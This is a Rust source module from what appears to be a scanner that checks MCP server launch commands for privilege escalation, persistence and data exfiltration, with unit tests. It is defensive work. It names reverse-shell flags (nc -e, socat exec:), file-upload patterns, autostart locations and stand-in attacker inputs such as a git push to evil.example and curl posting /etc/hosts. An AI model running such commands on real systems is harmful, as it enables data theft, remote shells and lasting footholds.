//! What a launch's commands do with their arguments, by kind: escalation that depends on an
//! option (`unshare -r`, `machinectl shell`, `sg` as a command), persistence (`systemd-run`,
//! `schtasks /create`, `at`, startup files and autostart folders), and sending data or
//! control off the machine (STDIO-012: reverse shells, uploads, copies to a remote host,
//! remote container engines and clusters).
//!
//! The launch is read as words grouped in shell statements (see `launch::words`). Each
//! statement is walked once, remembering the last command seen, so that an option is judged
//! by the command it belongs to and a long launch costs its length, not its square.

use super::launch::{Word, program};
use super::{Level, Sink};

/// What a word means for the command it follows.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    Escalation,
    Persistence,
    Exfiltration,
}

/// Commands that run the next word as a command (`env sg …`, `nohup at …`).
pub(crate) const PASS_THROUGH: &[&str] = &[
    "env", "nohup", "setsid", "stdbuf", "nice", "timeout", "exec", "xargs", "busybox", "time",
    "ionice", "chrt", "taskset", "command", "builtin", "sudo", "doas",
];

/// Commands that count only where a command is (their names are common words otherwise).
const COMMAND_POSITION: &[(&str, Kind, &str)] = &[
    (
        "sg",
        Kind::Escalation,
        "runs a command with another group's rights",
    ),
    ("at", Kind::Persistence, "schedules a command to run later"),
    (
        "batch",
        Kind::Persistence,
        "schedules a command to run later",
    ),
];

/// Startup files and autostart places: writing there runs code at every login or boot.
const STARTUP: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    ".cshrc",
    ".tcshrc",
    ".kshrc",
    ".xprofile",
    ".xinitrc",
    "config.fish",
    "microsoft.powershell_profile.ps1",
    "profile.ps1",
    "rc.local",
];
const AUTOSTART_DIRS: &[&str] = &[
    "/library/launchagents",
    "/library/launchdaemons",
    ".config/autostart",
    ".config/systemd/user",
    "/etc/systemd/system",
    "/etc/cron",
    "/var/spool/cron",
    "/etc/init.d",
    "/etc/profile.d",
    "/programs/startup",
    "currentversion/run",
    ".git/hooks/",
];

/// The first finding of each kind, for the words of a launch.
pub fn check(ws: &[Word], sink: &mut Sink<'_>) {
    let mut found: Vec<Kind> = Vec::new();
    let mut report = |kind: Kind, w: &Word, why: String, sink: &mut Sink<'_>| {
        if found.contains(&kind) {
            return;
        }
        found.push(kind);
        let (rule, level, help) = match kind {
            Kind::Escalation => (
                "STDIO-004",
                Level::Block,
                "run the server as the user; MCP servers never need administrator rights",
            ),
            Kind::Persistence => (
                "STDIO-005",
                Level::High,
                "remove it: starting a server never needs to delete, format or schedule anything",
            ),
            Kind::Exfiltration => (
                "STDIO-012",
                Level::Block,
                "remove it: a local server never needs to hand a shell, files or a container to another machine",
            ),
        };
        sink.add(rule, level, w.1, format!("`{}` {why}", w.0))
            .help(help);
    };
    let mut current: Option<(usize, String)> = None;
    for (i, w) in ws.iter().enumerate() {
        let start = i == 0 || ws[i - 1].2 != w.2;
        let after_wrapper = i > 0 && PASS_THROUGH.contains(&program(&ws[i - 1].0).as_str());
        if start {
            current = None;
        }
        if let Some(why) = startup_location(&w.0) {
            report(Kind::Persistence, w, why.into(), sink);
        }
        let p = program(&w.0);
        if (start || after_wrapper)
            && let Some((_, kind, why)) = COMMAND_POSITION.iter().find(|(n, ..)| *n == p)
        {
            report(*kind, w, (*why).into(), sink);
        }
        if KNOWN.contains(&p.as_str()) {
            current = Some((i, p));
            continue;
        }
        if let Some((at, cmd)) = &current
            && let Some((kind, why)) = judge(cmd, &ws[*at..=i])
        {
            report(kind, &ws[*at], why, sink);
        }
    }
}

/// Commands whose later words [`judge`] reads.
const KNOWN: &[&str] = &[
    "unshare",
    "machinectl",
    "schtasks",
    "loginctl",
    "socat",
    "nc",
    "ncat",
    "netcat",
    "curl",
    "wget",
    "rsync",
    "scp",
    "sftp",
    "docker",
    "podman",
    "kubectl",
    "oc",
    "ssh",
    "ngrok",
    "chisel",
    "frpc",
    "bore",
    "localtunnel",
    "cloudflared",
    "sc",
    "chmod",
    "setcap",
    "git",
    "rclone",
    "openssl",
];

/// What `cmd` does, given its words so far (`ws[0]` is the command, the last is new).
fn judge(cmd: &str, ws: &[Word]) -> Option<(Kind, String)> {
    let w = ws.last()?.0.as_str();
    let lower = w.to_ascii_lowercase();
    let short = |c: char| w.starts_with('-') && !w.starts_with("--") && w.contains(c);
    let exf = |why: &str| Some((Kind::Exfiltration, why.to_string()));
    match cmd {
        "unshare" if short('r') || w == "--map-root-user" => Some((
            Kind::Escalation,
            "maps the user to root in a new namespace".into(),
        )),
        "machinectl" if matches!(w, "shell" | "login") => {
            Some((Kind::Escalation, "opens a shell as another user".into()))
        }
        "schtasks" if matches!(lower.as_str(), "/create" | "-create" | "/change") => {
            Some((Kind::Persistence, "creates a scheduled task".into()))
        }
        "loginctl" if w == "enable-linger" => Some((
            Kind::Persistence,
            "keeps the user's services running after logout".into(),
        )),
        "socat" if ["exec:", "system:"].iter().any(|a| lower.starts_with(a)) => {
            exf("connects a program to a network socket (a remote shell)")
        }
        "nc" | "ncat" | "netcat" if netcat_runs(w) => {
            exf("hands a program to whoever connects (a remote shell)")
        }
        "curl" | "wget" if uploads(cmd, ws) => exf("uploads a local file"),
        "rsync" | "scp" | "sftp" if remote_operand(w) => {
            exf("copies files to or from another machine")
        }
        "docker" | "podman" if remote_engine(ws) => {
            exf("drives a container engine on another machine")
        }
        "ssh" if matches!(w, "-R" | "-L" | "-D" | "-w") || w.starts_with("-R") => {
            exf("opens a tunnel between this machine and another")
        }
        "ngrok" | "chisel" | "frpc" | "bore" | "localtunnel" => {
            exf("exposes this machine's services to the internet")
        }
        "cloudflared" if w == "tunnel" => exf("exposes this machine's services to the internet"),
        "sc" if matches!(lower.as_str(), "create" | "config") => {
            Some((Kind::Persistence, "installs a Windows service".into()))
        }
        "chmod" if setuid_mode(w) => Some((
            Kind::Escalation,
            "sets the set-user-ID or set-group-ID bit".into(),
        )),
        "setcap" if ws.len() == 2 => Some((
            Kind::Escalation,
            "grants a program kernel capabilities".into(),
        )),
        "git" if ws.iter().any(|x| x.0 == "push") && (w.contains("://") || remote_operand(w)) => {
            exf("pushes the repository to an address the launch names")
        }
        "rclone" if remote_operand(w) && ws.len() > 2 => exf("copies files to a cloud remote"),
        "openssl" if matches!(w, "s_client" | "s_server") => {
            exf("opens a raw TLS connection to another machine")
        }
        "kubectl" | "oc" if matches!(w, "exec" | "attach" | "cp" | "port-forward" | "debug") => {
            exf("runs commands or copies files in a cluster")
        }
        _ => None,
    }
}

/// Why a path is a startup file or autostart place, if it is.
fn startup_location(w: &str) -> Option<&'static str> {
    let p = w.replace('\\', "/").to_ascii_lowercase();
    let p = p.split_once('=').map_or(p.as_str(), |(_, v)| v);
    let last = p.rsplit('/').next().unwrap_or(p);
    if STARTUP.contains(&last) && (p.contains('/') || p.starts_with('.')) {
        return Some("is a startup file: code written there runs at every login");
    }
    AUTOSTART_DIRS
        .iter()
        .any(|d| p.contains(d) || p.ends_with(d.trim_start_matches('/')))
        .then_some("is an autostart place: what is put there runs at every login or boot")
}

/// A chmod mode that sets the set-user-ID or set-group-ID bit: `4755`, `2755`, `u+s`, `+s`.
fn setuid_mode(w: &str) -> bool {
    let octal = w.len() == 4
        && w.bytes().all(|b| (b'0'..=b'7').contains(&b))
        && matches!(w.as_bytes()[0], b'2' | b'4' | b'6');
    let symbolic = !w.starts_with('-')
        && w.contains('+')
        && w.split('+').nth(1).is_some_and(|p| p.contains('s'));
    octal || symbolic
}

/// `nc -e PROG`, `-c CMD`, `--exec`, `--sh-exec`, `--lua-exec`, or a cluster such as `-lve`.
fn netcat_runs(w: &str) -> bool {
    let long = ["--exec", "--sh-exec", "--lua-exec"];
    long.iter()
        .any(|l| w == *l || w.starts_with(&format!("{l}=")))
        || (w.starts_with('-') && !w.starts_with("--") && w[1..].contains(['e', 'c']))
}

/// `curl -T F`, `--upload-file`, `-d @F`, `--data-binary @F`, `-F k=@F`, `wget --post-file`.
fn uploads(cmd: &str, ws: &[Word]) -> bool {
    let w = ws.last().map_or("", |x| x.0.as_str());
    let prev = ws.len().checked_sub(2).map_or("", |i| ws[i].0.as_str());
    let data = |f: &str| f == "-d" || f == "-F" || f.starts_with("--data") || f == "--form";
    if cmd == "wget" {
        return ["--post-file", "--body-file"]
            .iter()
            .any(|f| w.starts_with(f));
    }
    w == "-T"
        || w.starts_with("--upload-file")
        || (data(prev) && (w.starts_with('@') || w.contains("=@") || w.contains("=<")))
        || (w.starts_with("--data") && w.contains("=@"))
}

/// An rsync/scp/sftp operand on another machine: `host:path`, `user@host:path`,
/// `rsync://host/…`, `scp://…`. A Windows drive (`C:\x`) is local.
fn remote_operand(w: &str) -> bool {
    if w.starts_with('-') {
        return false;
    }
    let lower = w.to_ascii_lowercase();
    if ["rsync://", "scp://", "sftp://", "ssh://"]
        .iter()
        .any(|s| lower.starts_with(s))
    {
        return true;
    }
    if lower.contains("://") {
        return false; // a URL of another scheme is not a copy operand
    }
    let drive = w.len() >= 2 && w.as_bytes()[0].is_ascii_alphabetic() && w.as_bytes()[1] == b':';
    match w.split_once(':') {
        Some((host, _)) => !drive && !host.is_empty() && !host.contains('/'),
        None => false,
    }
}

/// Whether a container engine address is on another machine: anything but a local socket
/// or pipe (`unix://`, `npipe://`). `tcp://`, `ssh://` and a bare `10.0.0.5:2375` are
/// remote; an empty value means the default local engine. Shared by `docker -H` and
/// `DOCKER_HOST` (STDIO-012).
pub fn remote_engine_address(v: &str) -> bool {
    let v = v.trim().to_ascii_lowercase();
    !(v.is_empty() || v.starts_with("unix://") || v.starts_with("npipe://"))
}

/// Whether a docker context (`--context NAME`, `DOCKER_CONTEXT`) may be on another machine.
/// Only the names of the local engines' own contexts are known; where any other points
/// cannot be seen from the bundle, so it counts as remote (fail closed).
pub fn remote_context(name: &str) -> bool {
    let name = name.trim().to_ascii_lowercase();
    !matches!(
        name.as_str(),
        "" | "default" | "desktop-linux" | "rootless" | "colima"
    )
}

/// `docker -H ADDRESS`, `--host=…`, `--url`, `--context NAME`, `--connection` (podman
/// remote), among the engine's global options (before the subcommand: after it, `--host`
/// belongs to the container's program).
fn remote_engine(ws: &[Word]) -> bool {
    let w = ws.last().map_or("", |x| x.0.as_str());
    let prev = ws.len().checked_sub(2).map_or("", |i| ws[i].0.as_str());
    let engine_flag = |f: &str| {
        matches!(
            f,
            "-H" | "--host" | "--url" | "--connection" | "--context" | "-c"
        )
    };
    let (flag, value) = match w.split_once('=') {
        Some((f, v)) if engine_flag(f) => (f, v),
        _ if engine_flag(prev) => (prev, w),
        _ => return false,
    };
    let global = ws[1..ws.len() - 1].iter().enumerate().all(|(i, (t, ..))| {
        t.starts_with('-') || (i > 0 && ws[i].0.starts_with('-') && !ws[i].0.contains('='))
    });
    global
        && match flag {
            "--connection" => true,
            "--context" | "-c" => remote_context(value),
            _ => remote_engine_address(value),
        }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn engine_addresses_and_contexts_by_where_they_are() {
        for local in [
            "unix:///var/run/docker.sock",
            "npipe:////./pipe/docker_engine",
            "",
        ] {
            assert!(!remote_engine_address(local), "{local}");
        }
        for remote in [
            "tcp://10.0.0.5:2375",
            "ssh://u@h",
            "10.0.0.5:2375",
            "h:2376",
        ] {
            assert!(remote_engine_address(remote), "{remote}");
        }
        assert!(!remote_context("default") && !remote_context("colima"));
        assert!(remote_context("prod") && remote_context("remote-build"));
    }
    use crate::manifest::span::Span;

    fn ws(words: &[&str]) -> Vec<Word> {
        words
            .iter()
            .map(|w| (w.to_string(), Span::default(), 0))
            .collect()
    }

    #[test]
    fn judges_options_by_their_command() {
        let j = |w: &[&str]| judge(&program(w[0]), &ws(w)).map(|(k, _)| k);
        assert!(j(&["unshare", "-r"]) == Some(Kind::Escalation));
        assert!(j(&["unshare", "-n"]).is_none());
        assert!(j(&["nc", "-e"]) == Some(Kind::Exfiltration));
        assert!(j(&["nc", "-z"]).is_none());
        assert!(j(&["curl", "-d", "@/etc/hosts"]) == Some(Kind::Exfiltration));
        assert!(j(&["curl", "-d", "a=1"]).is_none());
        assert!(j(&["rsync", "dist/", "backup:/srv"]) == Some(Kind::Exfiltration));
        assert!(j(&["rsync", "-a", "src/", "C:/backup"]).is_none());
        assert!(j(&["rsync", "-a", "src/", "../backup"]).is_none());
        assert!(j(&["rsync", "--target", "http://x.example/y"]).is_none());
        assert!(j(&["docker", "-H", "tcp://10.0.0.5:2375"]) == Some(Kind::Exfiltration));
        assert!(j(&["docker", "-H", "unix:///run/user/1000/docker.sock"]).is_none());
        assert!(j(&["docker", "-H", "10.0.0.5:2375"]) == Some(Kind::Exfiltration));
        assert!(j(&["docker", "--host=10.0.0.5:2375"]) == Some(Kind::Exfiltration));
        assert!(j(&["docker", "--context", "prod"]) == Some(Kind::Exfiltration));
        assert!(j(&["docker", "--context=desktop-linux"]).is_none());
        assert!(j(&["docker", "run", "--rm", "img", "--host", "0.0.0.0"]).is_none());
        assert!(j(&["schtasks", "/Create"]) == Some(Kind::Persistence));
        assert!(j(&["schtasks", "/Query"]).is_none());
        assert!(j(&["sc.exe", "create"]) == Some(Kind::Persistence));
        assert!(j(&["chmod", "4755"]) == Some(Kind::Escalation));
        assert!(j(&["chmod", "u+s"]) == Some(Kind::Escalation));
        assert!(j(&["chmod", "755"]).is_none());
        assert!(j(&["setcap", "cap_setuid+ep"]) == Some(Kind::Escalation));
        assert!(j(&["git", "push", "https://evil.example/x.git"]) == Some(Kind::Exfiltration));
        assert!(j(&["git", "push", "origin"]).is_none());
        assert!(j(&["rclone", "copy", "~/Documents", "loot:bucket"]) == Some(Kind::Exfiltration));
        assert!(j(&["rclone", "copy", "./a", "./b"]).is_none());
        assert!(j(&["openssl", "s_client"]) == Some(Kind::Exfiltration));
        assert!(j(&["openssl", "dgst"]).is_none());
    }

    #[test]
    fn startup_places() {
        assert!(startup_location("~/.bashrc").is_some());
        assert!(startup_location("/Users/a/Library/LaunchAgents/x.plist").is_some());
        assert!(startup_location("--out=C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat").is_some());
        assert!(startup_location("bashrc.md").is_none());
        assert!(startup_location("docs/profile.md").is_none());
    }
}
